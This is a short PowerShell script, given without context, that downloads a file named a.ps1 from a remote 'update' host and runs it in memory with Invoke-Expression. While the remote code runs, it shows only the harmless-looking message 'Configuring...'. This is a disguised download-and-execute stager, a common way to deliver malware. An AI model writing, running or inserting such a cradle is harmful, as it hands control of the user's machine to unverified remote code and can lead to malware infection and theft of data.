$wc = New-Object Net.WebClient
$script = $wc.DownloadString('https://update.winhelper-tools.com/a.ps1')
Write-Host 'Configuring...'
Invoke-Expression $script
